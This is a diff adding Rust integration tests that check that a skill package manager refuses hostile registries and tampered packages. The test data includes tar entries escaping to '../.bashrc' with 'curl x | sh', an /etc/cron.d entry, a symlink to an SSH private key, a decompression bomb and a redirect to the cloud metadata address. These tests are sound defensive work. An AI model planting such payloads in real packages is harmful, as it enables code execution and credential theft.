@@ -1,0 +1,455 @@
+//! Hostile registries and packages. Each case is served over real HTTP on
+//! 127.0.0.1 and installed the way `skillbox skill install` does (fetch,
+//! check, then write), and must be refused with a clear error, leaving
+//! nothing behind: no store entry, no lockfile, the agent file unchanged.
+
+use std::collections::BTreeMap;
+use std::path::{Path, PathBuf};
+
+use skillbox::config::ConfigDir;
+use skillbox::egress::Egress;
+use skillbox::market::client::RegistryClient;
+use skillbox::market::install::{self, Wanted};
+use skillbox::market::package::{MAX_COMPONENT, Package, sha256_hex};
+use skillbox::market::registry::{self, Index, Listing};
+use skillbox::market::signing::{KeyPair, PublicKey};
+
+fn repo() -> PathBuf {
+    Path::new(env!("CARGO_MANIFEST_DIR"))
+        .parent()
+        .unwrap()
+        .to_owned()
+}
+
+fn text() -> Package {
+    Package::from_dir(&repo().join("skills/text")).unwrap()
+}
+
+/// A registry directory holding `text` 0.1.0 by `acme`, served on
+/// 127.0.0.1 while the value lives.
+struct Registry {
+    dir: tempfile::TempDir,
+    acme: KeyPair,
+    url: url::Url,
+    _server: tokio::task::JoinHandle<()>,
+}
+
+impl Registry {
+    async fn new() -> Registry {
+        let dir = tempfile::tempdir().unwrap();
+        let acme = KeyPair::generate("acme").unwrap();
+        registry::publish(dir.path(), &text().pack().unwrap(), &acme).unwrap();
+        let app = skillbox::market::serve::router(dir.path().to_owned());
+        Registry::serving(dir, acme, app).await
+    }
+
+    async fn serving(dir: tempfile::TempDir, acme: KeyPair, app: axum::Router) -> Registry {
+        let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
+        let url = format!("http://{}/", listener.local_addr().unwrap())
+            .parse()
+            .unwrap();
+        let server = tokio::spawn(async move {
+            axum::serve(listener, app).await.unwrap();
+        });
+        Registry {
+            dir,
+            acme,
+            url,
+            _server: server,
+        }
+    }
+
+    fn trusted(&self) -> Vec<PublicKey> {
+        vec![self.acme.public().unwrap()]
+    }
+
+    /// Change the index entry of `text` 0.1.0.
+    fn edit(&self, change: impl FnOnce(&mut registry::Release)) {
+        let path = self.dir.path().join("index/text.json");
+        let mut index: Index = serde_json::from_slice(&std::fs::read(&path).unwrap()).unwrap();
+        change(&mut index.versions[0]);
+        std::fs::write(&path, serde_json::to_vec(&index).unwrap()).unwrap();
+    }
+
+    /// Put `bytes` in place of the package, with the index's hash updated
+    /// to match (the registry itself is hostile) and the signature kept.
+    fn replace_package(&self, bytes: &[u8]) {
+        std::fs::write(self.dir.path().join("packages/text-0.1.0.skill"), bytes).unwrap();
+        let sha256 = sha256_hex(bytes);
+        self.edit(|release| release.sha256 = sha256);
+    }
+}
+
+/// A configuration directory with the agent `ops`.
+fn config() -> tempfile::TempDir {
+    let dir = tempfile::tempdir().unwrap();
+    std::fs::create_dir(dir.path().join("agents")).unwrap();
+    std::fs::write(dir.path().join("agents/ops.toml"), "id = \"ops\"\n").unwrap();
+    dir
+}
+
+/// Install `text` from `registry` into `config` as the CLI does; the
+/// error, after checking that nothing was left behind.
+async fn refused(registry: &Registry, trusted: &[PublicKey]) -> String {
+    let config = config();
+    let host = ConfigDir::load(config.path()).unwrap().host;
+    let egress = Egress::new(BTreeMap::new());
+    let client = RegistryClient::new(&egress, &registry.url).unwrap();
+    let star = semver::VersionReq::STAR;
+    let installed =
+        match install::fetch(&client, trusted, "text", Wanted::Matching(&star), false).await {
+            Ok(fetched) => install::apply(
+                config.path(),
+                &host.data_dir,
+                "ops",
+                &registry.url,
+                &fetched,
+            ),
+            Err(e) => Err(e),
+        };
+    let error = format!("{:#}", installed.expect_err("the install must be refused"));
+    assert!(
+        !host.data_dir.join("store").exists(),
+        "{error}: a store entry was left"
+    );
+    assert!(
+        !config.path().join("skillbox.lock").exists(),
+        "{error}: a lockfile was left"
+    );
+    assert_eq!(
+        std::fs::read_to_string(config.path().join("agents/ops.toml")).unwrap(),
+        "id = \"ops\"\n",
+        "{error}: the agent file changed"
+    );
+    error
+}
+
+#[tokio::test]
+async fn a_good_package_installs() {
+    let registry = Registry::new().await;
+    let config = config();
+    let host = ConfigDir::load(config.path()).unwrap().host;
+    let client = RegistryClient::new(&Egress::new(BTreeMap::new()), &registry.url).unwrap();
+    let star = semver::VersionReq::STAR;
+    let fetched = install::fetch(
+        &client,
+        &registry.trusted(),
+        "text",
+        Wanted::Matching(&star),
+        false,
+    )
+    .await
+    .unwrap();
+    install::apply(
+        config.path(),
+        &host.data_dir,
+        "ops",
+        &registry.url,
+        &fetched,
+    )
+    .unwrap();
+    assert!(
+        host.data_dir
+            .join("store")
+            .join(&fetched.release.sha256)
+            .join("text.wasm")
+            .exists()
+    );
+}
+
+#[tokio::test]
+async fn a_package_whose_hash_differs_from_the_index() {
+    let registry = Registry::new().await;
+    registry.edit(|release| release.sha256 = "0".repeat(64));
+    let error = refused(&registry, &registry.trusted()).await;
+    assert!(error.contains("sha256"), "{error}");
+}
+
+#[tokio::test]
+async fn a_signature_that_is_not_the_packages() {
+    let registry = Registry::new().await;
+    let mut other = text();
+    other.component.push(0);
+    let signature = registry.acme.sign(&other).unwrap();
+    registry.edit(|release| release.signature = signature);
+    let error = refused(&registry, &registry.trusted()).await;
+    assert!(error.contains("signature does not match"), "{error}");
+}
+
+#[tokio::test]
+async fn a_signature_by_an_untrusted_key() {
+    let registry = Registry::new().await;
+    let mallory = KeyPair::generate("acme").unwrap();
+    let signature = mallory.sign(&text()).unwrap();
+    let key_id = mallory.key_id.clone();
+    registry.edit(|release| {
+        release.signature = signature;
+        release.key_id = key_id;
+    });
+    let error = refused(&registry, &registry.trusted()).await;
+    assert!(error.contains("does not trust"), "{error}");
+    // A key the registry lists under a trusted key's id is not that key.
+    let mut claimed = mallory.public().unwrap();
+    claimed.key_id = registry.acme.key_id.clone();
+    registry.edit(|release| release.key_id = claimed.key_id.clone());
+    let error = refused(&registry, &[claimed]).await;
+    assert!(error.contains("does not hash to its id"), "{error}");
+}
+
+#[tokio::test]
+async fn a_manifest_changed_after_signing() {
+    let registry = Registry::new().await;
+    let mut changed = text();
+    let manifest = String::from_utf8(changed.manifest).unwrap();
+    changed.manifest =
+        format!("{manifest}\n[capabilities]\nnetwork = [\"https://*\"]\n").into_bytes();
+    registry.replace_package(&changed.pack().unwrap());
+    let error = refused(&registry, &registry.trusted()).await;
+    assert!(error.contains("signature does not match"), "{error}");
+}
+
+#[tokio::test]
+async fn a_component_swapped_after_signing() {
+    let registry = Registry::new().await;
+    let mut swapped = text();
+    swapped.component = std::fs::read(repo().join("skills/notes/notes.wasm")).unwrap();
+    registry.replace_package(&swapped.pack().unwrap());
+    let error = refused(&registry, &registry.trusted()).await;
+    assert!(error.contains("signature does not match"), "{error}");
+}
+
+/// A tar.gz of `entries` with raw names, as an attacker writes it.
+fn tarball(entries: &[(&str, tar::EntryType, &[u8])]) -> Vec<u8> {
+    let gzip = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
+    let mut tar = tar::Builder::new(gzip);
+    for (name, kind, content) in entries {
+        let mut header = tar::Header::new_gnu();
+        header.set_entry_type(*kind);
+        header.set_size(content.len() as u64);
+        header.set_mode(0o755);
+        if kind.is_symlink() {
+            header.set_link_name("/home/user/.ssh/id_ed25519").unwrap();
+        }
+        header.as_old_mut().name[..name.len()].copy_from_slice(name.as_bytes());
+        header.set_cksum();
+        tar.append(&header, *content).unwrap();
+    }
+    tar.into_inner().unwrap().finish().unwrap()
+}
+
+#[tokio::test]
+async fn a_tarball_that_escapes_or_links() {
+    let registry = Registry::new().await;
+    let good = text();
+    let file = tar::EntryType::Regular;
+    let (m, c, r) = (&good.manifest[..], &good.component[..], &b"# text"[..]);
+    for (case, bytes) in [
+        (
+            "../",
+            tarball(&[
+                ("skill.toml", file, m),
+                ("text.wasm", file, c),
+                ("../.bashrc", file, b"curl x | sh"),
+            ]),
+        ),
+        (
+            "absolute",
+            tarball(&[
+                ("skill.toml", file, m),
+                ("/etc/cron.d/x", file, b"* * * * * x"),
+                ("text.wasm", file, c),
+            ]),
+        ),
+        (
+            "symlink",
+            tarball(&[
+                ("skill.toml", file, m),
+                ("README.md", tar::EntryType::Symlink, b""),
+                ("text.wasm", file, c),
+            ]),
+        ),
+        (
+            "hard link",
+            tarball(&[
+                ("skill.toml", file, m),
+                ("README.md", tar::EntryType::Link, b""),
+                ("text.wasm", file, c),
+            ]),
+        ),
+        (
+            "extra file",
+            tarball(&[
+                ("skill.toml", file, m),
+                ("text.wasm", file, c),
+                ("README.md", file, r),
+                ("setup.sh", file, b"curl x | sh"),
+            ]),
+        ),
+    ] {
+        registry.replace_package(&bytes);
+        let error = refused(&registry, &registry.trusted()).await;
+        assert!(error.contains("refused"), "{case}: {error}");
+    }
+}
+
+#[tokio::test]
+async fn a_decompression_bomb() {
+    let registry = Registry::new().await;
+    // 256 MiB of zeros: a few hundred KiB compressed.
+    let gzip = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
+    let mut tar = tar::Builder::new(gzip);
+    let mut header = tar::Header::new_gnu();
+    header.set_size(256 << 20);
+    header.set_mode(0o644);
+    header.set_cksum();
+    let zeros = std::io::Read::take(std::io::repeat(0), 256 << 20);
+    tar.append_data(&mut header, "text.wasm", zeros).unwrap();
+    let bytes = tar.into_inner().unwrap().finish().unwrap();
+    assert!(bytes.len() < 2 << 20, "{}", bytes.len());
+    registry.replace_package(&bytes);
+    let error = refused(&registry, &registry.trusted()).await;
+    assert!(error.contains("over its cap"), "{error}");
+}
+
+#[tokio::test]
+async fn a_component_over_the_cap() {
+    let registry = Registry::new().await;
+    // Incompressible bytes, one past the cap: a package under the
+    // download cap that unpacks to a component over its own.
+    let mut state = 0x2545_f491_4f6c_dd1d_u64;
+    let component: Vec<u8> = (0..=MAX_COMPONENT)
+        .map(|_| {
+            state ^= state << 13;
+            state ^= state >> 7;
+            state ^= state << 17;
+            state as u8
+        })
+        .collect();
+    let good = text();
+    let file = tar::EntryType::Regular;
+    registry.replace_package(&tarball(&[
+        ("skill.toml", file, &good.manifest),
+        ("text.wasm", file, &component),
+        ("README.md", file, b"# text"),
+    ]));
+    let error = refused(&registry, &registry.trusted()).await;
+    assert!(error.contains("over its cap of 33554432 bytes"), "{error}");
+}
+
+#[tokio::test]
+async fn a_registry_that_redirects_elsewhere() {
+    let dir = tempfile::tempdir().unwrap();
+    let acme = KeyPair::generate("acme").unwrap();
+    registry::publish(dir.path(), &text().pack().unwrap(), &acme).unwrap();
+    // The index is served; the package redirects to another host.
+    let files = skillbox::market::serve::router(dir.path().to_owned());
+    let app = axum::Router::new()
+        .route(
+            "/packages/{name}",
+            axum::routing::get(|| async {
+                axum::response::Redirect::temporary("http://169.254.169.254/latest/meta-data/")
+            }),
+        )
+        .fallback_service(files);
+    let registry = Registry::serving(dir, acme, app).await;
+    let error = refused(&registry, &registry.trusted()).await;
+    assert!(
+        error.contains("redirects to http://169.254.169.254"),
+        "{error}"
+    );
+}
+
+#[test]
+fn a_typosquat_shows_its_publisher_beside_the_original() {
+    let listing = |name: &str, publisher: &str, key_id: &str| Listing {
+        name: name.into(),
+        version: "1.0.0".parse().unwrap(),
+        description: "Text utilities".into(),
+        publisher: publisher.into(),
+        key_id: key_id.into(),
+    };
+    let listings = vec![
+        listing("text", "skillbox", "aaaa"),
+        listing("txet", "mallory", "bbbb"),
+        listing("texts", "mallory", "bbbb"),
+        listing("notes", "skillbox", "aaaa"),
+    ];
+    let names = |found: Vec<&Listing>| -> Vec<String> {
+        found
+            .iter()
+            .map(|l| format!("{} by {}", l.name, l.publisher))
+            .collect()
+    };
+    assert_eq!(
+        names(registry::lookalikes(&listings, &listings[2])),
+        ["text by skillbox"]
+    );
+    assert_eq!(
+        names(registry::lookalikes(&listings, &listings[0])),
+        ["txet by mallory", "texts by mallory"]
+    );
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn a_skill_tampered_after_install_is_quarantined_at_load() {
+    let registry = Registry::new().await;
+    let config = config();
+    std::fs::write(
+        config.path().join("skillbox.toml"),
+        format!(
+            "[registries.test]\nurl = \"{}\"\nkeys = [{{ key_id = \"{}\", publisher = \"acme\", public_key = \"{}\" }}]\n",
+            registry.url,
+            registry.acme.key_id,
+            registry.acme.public().unwrap().public_key
+        ),
+    )
+    .unwrap();
+    let host = ConfigDir::load(config.path()).unwrap().host;
+    let client = RegistryClient::new(&Egress::new(BTreeMap::new()), &registry.url).unwrap();
+    let star = semver::VersionReq::STAR;
+    let fetched = install::fetch(
+        &client,
+        &registry.trusted(),
+        "text",
+        Wanted::Matching(&star),
+        false,
+    )
+    .await
+    .unwrap();
+    install::apply(
+        config.path(),
+        &host.data_dir,
+        "ops",
+        &registry.url,
+        &fetched,
+    )
+    .unwrap();
+    let loaded = ConfigDir::load(config.path()).unwrap();
+    let runtime = skillbox::Runtime::open(&loaded.host).unwrap();
+    runtime
+        .load_agent(&loaded.agents["ops"])
+        .expect("the untouched skill loads");
+
+    let store = host.data_dir.join("store").join(&fetched.release.sha256);
+    let manifest = std::fs::read_to_string(store.join("skill.toml")).unwrap();
+    std::fs::write(
+        store.join("skill.toml"),
+        manifest.replace("Text utilities", "Text tools"),
+    )
+    .unwrap();
+    let error = runtime
+        .load_agent(&loaded.agents["ops"])
+        .err()
+        .expect("a tampered skill is refused")
+        .to_string();
+    assert!(
+        error.contains("failed its check") && error.contains("quarantine"),
+        "{error}"
+    );
+    assert!(!store.exists());
+    let audit = skillbox::db::audit::read(runtime.db(), "ops", None).unwrap();
+    assert!(
+        audit.iter().any(|e| e.decision == "quarantined"),
+        "{audit:?}"
+    );
+}
